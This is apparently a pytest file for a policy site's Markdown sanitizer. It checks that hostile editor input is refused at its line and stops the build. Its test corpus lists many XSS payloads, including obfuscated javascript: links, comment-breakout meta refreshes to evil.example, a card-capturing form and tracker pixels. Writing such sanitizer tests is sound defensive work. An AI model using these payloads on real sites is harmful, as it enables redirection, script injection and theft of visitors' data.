"""Nothing unsafe reaches a published page, whatever an editor writes.

Each hostile case is rendered on its own through the Markdown extension (the whole corpus, in
process): it must be reported at the line that wrote it, and the output check alone
(:func:`policy_site.pages.safety.judge`, on the HTML the page would get) must refuse it too, so the
source's proofreading is never the only gate. A few real builds of copies of the project then
show the same from ``mkdocs build --strict``: file and line in the message, nothing built, the
last good ``site/`` unchanged. The benign corpus builds, and its HTML passes the check.
"""

# The corpus keeps one case per line; its long lines are deliberate.
# ruff: noqa: E501

from __future__ import annotations

import re
from pathlib import Path

import markdown
import pytest

from checker import default_policy
from policy_site.package import load
from policy_site.pages import safety
from policy_site.pages.extension import PolicySiteExtension
from tests.site.projects import build, copy_project, edit
from tests.site.test_editor_mistakes import assert_nothing_built, line_of, with_last_good_site

REFUND = load("checker")  # the policy the site publishes

INTRO = "Intro.\n\n"  # every case starts on line 3 of its page


def render(text: str) -> tuple[str, list[str]]:
    extension = PolicySiteExtension(REFUND, default_policy(), on_problem=lambda problem: None)
    html = markdown.markdown(text, extensions=[extension, "toc", "admonition", "tables"])
    return html, [str(problem) for problem in extension.problems]


# (what an editor writes, what the message says). Each is written from line 3 of a page; the
# message names the last line of the case (where a reference's address is).
# fmt: off
HOSTILE = [
    ('<!-- --!><meta http-equiv="refresh" content="1;url=https://evil.example/p"> -->', "<meta> is not allowed"),
    ('<!-- --!><form action="https://evil.example/pay"><input name="card"></form> -->', "<form> is not allowed"),
    ('<!-- --!><iframe src="https://evil.example/"></iframe> -->', "<iframe> is not allowed"),
    ('<!-- --!><img src="https://tracker.example/p.png"> -->', "would be loaded from another site"),
    ("[Refund](java\tscript:alert(1))", "script:alert(1)"),
    ("![pixel](https://tracker.example/p.png)", "“https://tracker.example/p.png” would be loaded from another site"),
    ("[Terms](//evil.example/terms)", "“//evil.example/terms” has no scheme"),
    ('<a href="&#106;avascript:alert(1)">Refund</a>', "is not allowed: a link goes to a web address"),
    ('<a href="&#x6A;&#x61;vascript&colon;alert(1)">Refund</a>', "is not allowed: a link goes to a web address"),
    ('<a href="java&#x09;script:alert(1)">Refund</a>', "is not allowed: a link goes to a web address"),
    ('<a href=" &#x0A;javascript:alert(1)">Refund</a>', "is not allowed: a link goes to a web address"),
    ("<A HREF=JavaScript:alert(1)>Refund</A>", "is not allowed: a link goes to a web address"),
    ("<SCRIPT>alert(1)</SCRIPT>", "<script> is not allowed"),
    ('<svg><a xlink:href="javascript:alert(1)"><text>Refund</text></a></svg>', "<svg> is not allowed"),
    ("<math><mtext><a href=javascript:alert(1)>x</a></mtext></math>", "<math> is not allowed"),
    ('<img srcset="https://tracker.example/p.png 1x" alt="">', "<img> is not allowed"),
    ('<a href="\\\\evil.example/terms">Terms</a>', "has no scheme"),
    ('<a href="/\\evil.example/terms">Terms</a>', "has no scheme"),
    ("[Terms](/\\evil.example/terms)", "has no scheme"),
    ("[Refund](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)", "“data:text/html;base64"),
    ("![pixel](data:image/png;base64,iVBORw0KGgo=)", "“data:image/png;base64,iVBORw0KGgo=” is not allowed"),
    ("[Refund](vbscript:msgbox(1))", "is not allowed: a link goes to a web address"),
    ("<ftp://files.example/terms.pdf>", "“ftp://files.example/terms.pdf” is not allowed"),
    ('<noscript><img src="https://tracker.example/p.png"></noscript>', "<noscript> is not allowed"),
    ("<template><img src=x onerror=alert(1)></template>", "<template> is not allowed"),
    ("<svg><![CDATA[</svg><img src=x onerror=alert(1)>]]></svg>", "<svg> is not allowed"),
    ("<b onmouseover=alert(1)>Read this</b>", 'onmouseover="…" on <b> is not allowed'),
    ('<b style="background:url(https://tracker.example/p.png)">Read this</b>', 'style="…" on <b> is not allowed'),
    ('<abbr title="x" data-worker="https://evil.example/w.js">ABC</abbr>', 'data-worker="…" on <abbr> is not allowed'),
    ('<section data-policy-check data-worker="https://evil.example/w.js"></section>', "<section> is not allowed"),
    ('<link rel="stylesheet" href="https://evil.example/x.css">', "<link> is not allowed"),
    ('<base href="https://evil.example/">', "<base> is not allowed"),
    ('<object data="https://evil.example/x.swf"></object>', "<object> is not allowed"),
    ('<embed src="https://evil.example/x.swf">', "<embed> is not allowed"),
    ("<style>@import url(https://evil.example/x.css)</style>", "<style> is not allowed"),
    ('<video src="https://evil.example/v.mp4"></video>', "<video> is not allowed"),
    ("<textarea><p>swallowed</p></textarea>", "<textarea> is not allowed"),
    ("<?php echo 1 ?>", "is not allowed in the policy's pages"),
    ("<a href=javascript:alert(1)>unquoted</a>", "is not allowed: a link goes to a web address"),
    ("<kbd onclick='alert(1)'>Ctrl</kbd>", 'onclick="…" on <kbd> is not allowed'),
    ("[Refund][terms]\n\n[terms]: javascript:alert(1)", "is not allowed: a link goes to a web address"),
    ("![pixel][tracker]\n\n[tracker]: https://tracker.example/p.png", "would be loaded from another site"),
    ("[Call us](tel:+15550100)", "is not allowed: a link goes to a web address"),
    ('<a href="&#0000106avascript:alert(1)">Refund</a>', "is not allowed: a link goes to a web address"),
    ("<a href='jav&#x0D;ascript:alert(1)'>Refund</a>", "is not allowed: a link goes to a web address"),
    ("[Refund](<javascript:alert(1)>)", "is not allowed"),
    ('<a href="https://imgtostl.com/" ping="https://tracker.example/">Home</a>', 'ping="…" on <a> is not allowed'),
    ("<scr<script>ipt>alert(1)</script>", "is not allowed"),
    ("<xmp><img src=x onerror=alert(1)></xmp>", "<xmp> is not allowed"),
    ("<x-offer onclick=alert(1)>Offer</x-offer>", "<x-offer> is not allowed"),
    ("<details open ontoggle=alert(1)>More</details>", "<details> is not allowed"),
    ("[![logo](https://evil.example/p.png)](https://imgtostl.com/)", "would be loaded from another site"),
]
# fmt: on

# What editors legitimately write: it builds, and its HTML passes the check.
BENIGN = """\
# Refunds

A <abbr title="Terms of Service">ToS</abbr> line, <kbd>Ctrl</kbd>+<kbd>C</kbd>,<br>a new line,
<b>bold</b>, <em>em</em>, <q>quote</q>, <time datetime="2026-05-01">1 May 2026</time>.

See [our terms](https://imgtostl.com/terms), [the old site](http://imgtostl.com/),
[write to us](mailto:support@imgtostl.com), <https://imgtostl.com/>, [examples](examples.md),
[the check](#check), [history](/history/), and ![the mark](assets/images/logo.svg).

[Reference link][site]

[site]: https://imgtostl.com/

| What | Days |
|:-----|-----:|
| window | 7 |

!!! note "Before you write"
    Keep your order id at hand.

Code shows HTML as text: `<script>alert(1)</script>` and `<meta http-equiv="refresh">`.

```html
<form action="https://evil.example/"><input name="card"></form>
<script>alert(1)</script>
```

<!-- an editor's note, closed as browsers close it -->
"""


@pytest.mark.parametrize(("text", "message"), HOSTILE, ids=[case[0][:40] for case in HOSTILE])
def test_hostile_html_is_refused_at_its_line(text: str, message: str) -> None:
    html, problems = render(INTRO + text + "\n")
    assert problems, f"built: {html}"
    assert all(problem.startswith("the page:") for problem in problems)
    line = 3 + text.count("\n")
    assert any(problem.startswith(f"the page:{line}: ") for problem in problems), problems
    assert any(message in problem for problem in problems), problems
    # The output check alone refuses it, as a browser would parse the page.
    assert safety.judge(html), html


def test_the_output_check_names_the_line_the_proofreading_cannot_see() -> None:
    # A comment closed by --!> hides the <meta> from a reader that waits for -->.
    text = 'Intro.\n\nMore.\n\n<!-- --!><meta http-equiv="refresh" content="0;url=https://evil.example/"> -->\n'
    _, problems = render(text)
    assert problems == [
        "the page:5: <meta> is not allowed in the policy's pages: it changes the whole page "
        "(where it sends visitors, what it loads, how it looks). Remove it; the page's settings "
        "are in mkdocs.yml and the look in docs/assets/brand.css, a developer's change."
    ]


def test_the_benign_corpus_renders_and_passes_the_check() -> None:
    html, problems = render(BENIGN)
    assert problems == []
    assert safety.judge(html) == []
    assert "&lt;script&gt;" in html and "<abbr" in html and 'class="refund-align-right"' in html


def test_the_blocks_own_html_is_trusted_but_cannot_carry_the_editors() -> None:
    example = (
        "/// example | Charged twice\npurchase_date: 2026-05-01\nrequest_date: 2026-05-03\n"
        "purchase_type: credit_pack\nreason: duplicate_payment\ncredits_used: none\n"
        "expect: likely_eligible\n///\n"
    )
    html, problems = render("# Examples\n\n" + example)
    assert problems == []
    assert "data-refund-trusted" not in html and safety.MARKER not in html
    # The same markup written by hand has no token: it is judged as the editor's.
    assert safety.judge(html.replace("<div", '<div data-verdict="x"', 1))
    # Nor can an editor place the block's HTML again by writing its stash placeholder (Python-
    # Markdown removes the placeholder's control characters from the source).
    forged = '<abbr title="\x02wzxhzdk:0\x03">x</abbr>\n\n\x02wzxhzdk:0\x03\n'
    twice, problems = render("# Examples\n\n" + example + "\n" + forged)
    assert problems == []
    assert twice.count("Try these answers") == html.count("Try these answers") == 1


def test_html_left_open_before_a_block_is_refused_at_the_block() -> None:
    marker = f'<{safety.MARKER} data-index="0" data-token="t"></{safety.MARKER}>'
    assert safety.judge(f"<p>ok</p>{marker}", token="t", markers={"0": 7}) == []
    found = safety.judge(f'<p><abbr title="{marker}">x</abbr></p>', token="t", markers={"0": 7})
    assert (7, "HTML written before this “///” block is left open (an unclosed tag") in [
        (f.line, f.message.split(",")[0]) for f in found
    ]
    # A marker without the token is the editor's own element.
    assert safety.judge(f'<{safety.MARKER} data-index="0"></{safety.MARKER}>', token="t")


@pytest.mark.parametrize(
    ("url", "seen"),
    [
        (" \x00java\tscript:x\n", "javascript:x"),
        ("\\\\evil.example\\a", "//evil.example/a"),
        ("https://imgtostl.com/\t", "https://imgtostl.com/"),
    ],
)
def test_urls_are_read_as_the_url_standard_reads_them(url: str, seen: str) -> None:
    assert safety.normalise_url(url) == seen


# A real build of a copy of the project, with hostile cases on lines of their own in the policy
# page: each is reported with its file and line, and nothing is built.
# fmt: off
PAGE_CASES = [
    ("# Refund Policy\n", "---\ndescription: '\"><script>alert(1)</script>'\ntemplate: 404.html\n---\n# Refund Policy\n", "description:", "“description:” in the page's front matter must be plain text"),
    ("# Refund Policy\n", "# Refund Policy\n", "template:", "“template:” in the page's front matter is not allowed"),
    ("## Chargebacks\n", "## Chargebacks\n\n<!-- --!><meta http-equiv=\"refresh\" content=\"1;url=https://evil.example/p\"> -->\n", "<!-- --!><meta", "<meta> is not allowed"),
    ("## Processing Time\n", "## Processing Time\n\n[Refund](java\tscript:alert(1))\n", "[Refund](java", "script:alert(1)"),
    ("## Subscription Refunds\n", "## Subscription Refunds\n\n![pixel](https://tracker.example/p.png)\n", "![pixel]", "would be loaded from another site"),
    ("## Contact\n", "## Contact\n\n[Terms](//evil.example/terms)\n", "[Terms](//evil", "has no scheme"),
    ("## Alternatives to Refunds\n", "## Alternatives to Refunds\n\n<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>\n", "<svg>", "<svg> is not allowed"),
]
# fmt: on


def test_hostile_pages_stop_a_real_build_at_their_lines(tmp_path: Path) -> None:
    project = copy_project(tmp_path)
    with_last_good_site(project)
    page = project / "docs" / "index.md"
    for old, new, _, _ in PAGE_CASES:
        edit(page, old, new)
    result = build(project)
    assert_nothing_built(project, result)
    for _, _, at, message in PAGE_CASES:
        line = line_of(page, at)
        assert re.search(
            rf"^WARNING +- +policy-site: docs/index\.md:{line}: .*{re.escape(message)}",
            result.stderr,
            re.M,
        ), f"docs/index.md:{line}: {message}\n\n{result.stderr}"


def test_markup_in_policy_values_stops_a_real_build_at_its_line(tmp_path: Path) -> None:
    project = copy_project(tmp_path)
    with_last_good_site(project)
    policy = project / "checker" / "policy.toml"
    edit(
        policy,
        'last_updated = "May 2026"',
        'last_updated = "May 2026<meta http-equiv=\\"refresh\\" content=\\"1;url=https://evil.example/\\">"',
    )
    result = build(project)
    assert_nothing_built(project, result)
    line = line_of(policy, 'last_updated = "May 2026<meta')
    assert (
        f"checker/policy.toml:{line}: last_updated holds “<” or “>”, which the pages would read "
        "as HTML; policy.toml holds plain text only." in result.stderr
    ), result.stderr


def test_what_editors_write_builds(tmp_path: Path) -> None:
    project = copy_project(tmp_path)
    page = project / "docs" / "index.md"
    body = BENIGN.split("\n", 1)[1]  # under the page's own title
    edit(page, "## Contact\n", "## Contact\n\n" + body + "\n")
    result = build(project)
    assert result.returncode == 0, result.stderr
    built = (project / "site" / "index.html").read_text(encoding="utf-8")
    assert '<abbr title="Terms of Service">ToS</abbr>' in built
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in built
    assert "data-refund-trusted" not in built and safety.MARKER not in built
    assert 'class="refund-align-right"' in built and "style=" not in built
    assert "Refund policy last updated: " in built
